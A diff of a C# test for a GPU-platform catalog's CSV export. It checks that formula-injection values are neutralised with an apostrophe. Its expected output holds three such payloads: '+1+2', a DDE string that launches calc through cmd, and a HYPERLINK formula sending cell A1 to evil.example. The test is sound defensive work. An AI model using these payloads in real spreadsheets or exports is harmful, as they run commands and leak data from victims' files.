@@ -10,25 +10,29 @@ public sealed class PlatformCsvTests(FormulaInjectionFactory factory) : IClassFi
     /// a Colab pro, a Kaggle con) neutralised by a leading apostrophe. Records end with CRLF; the pros and cons
     /// inside one cell are separated by LF.
     /// </summary>
+    private const string Article = "https://towardsdatascience.com/free-gpus-for-training-your-deep-learning-models-c1ce47863350";
+
     private const string Expected =
         "Slug,Name,Vendor,Status,Renamed to,GPU models,GPU memory min (GB),GPU memory max (GB),CPUs min,CPUs max,CPU model,"
         + "RAM min (GB),RAM max (GB),Storage min (GB),Storage max (GB),Storage note,Max session min (h),Max session max (h),"
         + "Idle timeout min (min),Idle timeout max (min),Weekly quota,Weekly GPU hours min (h),Weekly GPU hours max (h),"
-        + "Weekly quota reset,Features,Pros,Cons,Last verified,Page\r\n"
+        + "Weekly quota reset,Features,Pros,Cons,Last verified,Page,GPU source,GPU as of,CPU source,CPU as of,RAM source,RAM as of,"
+        + "Storage source,Storage as of,Max session source,Max session as of,Idle timeout source,Idle timeout as of,"
+        + "Weekly quota source,Weekly quota as of\r\n"
         + "colab,Google Colab,Google,active,,Tesla P100 (PCIe); Tesla T4; Tesla K80; Tesla P4,8,16,2,2,Intel Xeon 2.3 GHz,"
-        + "13,13,15,15,Google Drive,12,12,30,30,no quota,,,,private-notebooks; tpu; cloud-storage-integration,"
+        + "13,13,15,15,Google Drive,12,12,30,30,no quota,,,,Private notebooks; Free TPU; Cloud storage integration,"
         + "\"'+1+2\nGoogle Drive integration for data storage\nNo usage limits\nPrivate and public notebooks\nLong execution time of 12 hours\","
-        + "\"Short idle time of about 30 minutes\nGoogle Drive must be re-mounted and re-authenticated every session\",,/platforms/colab\r\n"
+        + "\"Short idle time of about 30 minutes\nGoogle Drive must be re-mounted and re-authenticated every session\",,http://localhost/platforms/colab," + Article + ",," + Article + ",," + Article + ",," + Article + ",," + Article + ",," + Article + ",," + Article + ",\r\n"
         + "kaggle,Kaggle,Kaggle,active,,Tesla P100 (PCIe),16,16,2,2,Intel Xeon 2.00 GHz,13,13,,,,,,20,20,limited,30,41,"
-        + "Resets every Saturday at midnight UTC.,private-notebooks; background-execution; notebook-versioning; dataset-integration; notebook-comments,"
+        + "Resets every Saturday at midnight UTC.,Private notebooks; Background execution; Notebook versioning; Dataset integration; Community comments,"
         + "\"Commit mode runs code in the background\nComments from other users\n16 GB GPU memory, the most of the three platforms\n"
         + "Public and private notebooks\nKaggle datasets\nNotebook versioning\","
-        + "\"'@SUM(1+1)*cmd|' /C calc'!A0\nWeekly GPU quota of 30–40 hours\nShort idle time of 20 minutes in interactive GPU mode\",,/platforms/kaggle\r\n"
+        + "\"'@SUM(1+1)*cmd|' /C calc'!A0\nA dynamic weekly GPU quota of at least 30 hours (usually 30–41 hours)\nShort idle time of 20 minutes in interactive GPU mode\",,http://localhost/platforms/kaggle," + Article + ",," + Article + ",," + Article + ",,,,,," + Article + ",," + Article + ",\r\n"
         + "gradient,Paperspace Gradient,\"'=HYPERLINK(\"\"https://evil.example/?d=\"\"&A1,\"\"Click\"\")\",active,,Quadro M4000,8,8,8,8,"
         + "Intel Xeon E5-2623,30,30,5,5,,6,6,60,360,,,,,,"
         + "\"8 CPUs and 30 GB RAM, the most of the three platforms\nLong idle time of 1–6 hours\","
         + "\"No private notebooks on a free GPU\nThe GPU depends on availability and may be unavailable at peak times\n"
-        + "Low GPU memory (8 GB)\nLow storage (5 GB)\",,/platforms/gradient\r\n";
+        + "Low GPU memory (8 GB)\nLow storage (5 GB)\",,http://localhost/platforms/gradient," + Article + ",," + Article + ",," + Article + ",," + Article + ",," + Article + ",," + Article + ",,,\r\n";
 
     [Fact]
     public async Task The_seed_catalog_exports_exactly_the_golden_file_with_formulas_neutralised()
@@ -40,8 +44,8 @@ public sealed class PlatformCsvTests(FormulaInjectionFactory factory) : IClassFi
         Assert.Equal("utf-8", response.Content.Headers.ContentType?.CharSet);
         Assert.Equal("attachment; filename=free-gpu-platforms.csv", response.Content.Headers.ContentDisposition?.ToString());
         var bytes = await response.Content.ReadAsByteArrayAsync();
-        Assert.False(bytes.AsSpan().StartsWith(Encoding.UTF8.Preamble), "no byte order mark");
-        Assert.Equal(Expected, Encoding.UTF8.GetString(bytes));
+        Assert.True(bytes.AsSpan().StartsWith(Encoding.UTF8.Preamble), "a byte order mark, for spreadsheet programs");
+        Assert.Equal(Expected, Encoding.UTF8.GetString(bytes.AsSpan(Encoding.UTF8.Preamble.Length)));
     }
 
     [Fact]
@@ -50,7 +54,7 @@ public sealed class PlatformCsvTests(FormulaInjectionFactory factory) : IClassFi
         var records = Csv.Parse(await factory.CreateClient().GetStringAsync("/api/v1/platforms.csv?status=all"));
 
         Assert.Equal(4, records.Count);
-        Assert.All(records, r => Assert.Equal(29, r.Count));
+        Assert.All(records, r => Assert.Equal(43, r.Count));
         Assert.All(records.SelectMany(r => r), cell => Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', cell));
         var gradient = records.Single(r => r[0] == "gradient");
         Assert.Equal("'" + FormulaInjectionFactory.HostileVendor, gradient[2]); // the text survives, shown as text
